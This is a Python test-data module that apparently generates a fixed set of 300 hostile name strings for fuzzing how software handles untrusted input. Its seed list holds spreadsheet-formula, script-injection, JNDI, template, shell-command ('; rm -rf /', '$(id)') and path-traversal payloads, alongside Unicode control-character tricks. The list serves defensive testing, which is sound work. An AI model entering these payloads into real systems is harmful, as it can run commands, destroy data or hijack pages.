"""Strings that attackers put into names: 300 of them, the same in each run."""
import random

SEEDS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\"=1", "'=1", "=cmd|' /C calc'!A0", "\uff1d1", "a,b", "a\"b",
    "a\"\"b\r\n=1", "\",\"=1", "a;=1", "<script>alert(1)</script>", "</title><script>1</script>", "</style><img src=x onerror=1>",
    "--><svg onload=1>", "' onmouseover='1", "\" autofocus onfocus=\"1", "&lt;b&gt;", "&#60;b>", "<!--", "]]>", "<![CDATA[",
    "javascript:alert(1)", "# h", "## h", "- x", "+ x", "* x", "1. x", "10) x", "> q", "```", "````\nx\n````", "~~~", "`x`", "``", "`",
    "[a](javascript:1)", "![a](http://evil.example/x.png)", "<http://evil.example>", "http://evil.example/", "www.evil.example",
    "a@evil.example", "**b**", "__b__", "~~b~~", "a|b", "|---|", "\\|", "\\", "\\\\", "a\\", "    code", "\tcode", "---", "===", "***",
    "a  \nb", "a\n\nb", "a\n# h", "a\n- x", "a\n```\nb", "[a]: http://evil.example", "[^1]", "$x$", "x'] OR [url:value = 'y", "x\\' OR y",
    "x\\", "x\\\\'", "'", "''", "x' AND file:name = 'y']", "x'/* */", "x'] FOLLOWEDBY [url:value='y']", "{\"a\":1}", "\"}],\"x\":[{\"",
    "\u202eexe.cod", "\u200b", "a\u2028b", "a\u2029b", "\ufeffx", "\u0000x", "x\u0000", "\u001b[31m", "\u0007", "\u007f", "\u0085",
    "\u00a0=1", "\u3000=1", "e\u0301", "\U0001f600", "\ufffe", "\u27e6U+0000\u27e7", "%00", "%n%s", "${jndi:ldap://x}", "{{7*7}}",
    "$(id)", "`id`", "; rm -rf /", "| net user", "../../etc/passwd", "C:\\Windows\\x", "\\\\evil\\share", "a\rb", "a\r\nb", "a\tb",
    " lead", "trail ", "x" * 5000, "<" * 500, "`" * 400, "[" * 400, "\"" * 300, "null", "true", "0", "00", "1e5", "NaN", "",
]
PIECES = ["=", "+", "-", "@", "\t", "\r", "\n", "\"", "'", "`", "|", "<", ">", "&", "\\", "[", "]", "(", ")", "{", "}", "*", "_", "#", "~",
          "!", ":", "/", "//", ";", ",", "^", "$", "%", " ", "\u202e", "\u200b", "\u2028", "\x00", "\x1b", "script", "www.", "http://", "'] OR [",
          "\uff1d", "\U0001f600", "a", "B7", "--", "/*", "*/", "```", "<!--"]


def strings(count=300):
    dice = random.Random(7)
    found = list(dict.fromkeys(text for text in SEEDS if text.strip()))
    while len(found) < count:
        text = "".join(dice.choice(PIECES) for _ in range(dice.randint(2, 24)))
        if text.strip() and text not in found:
            found.append(text)
    return found[:count]
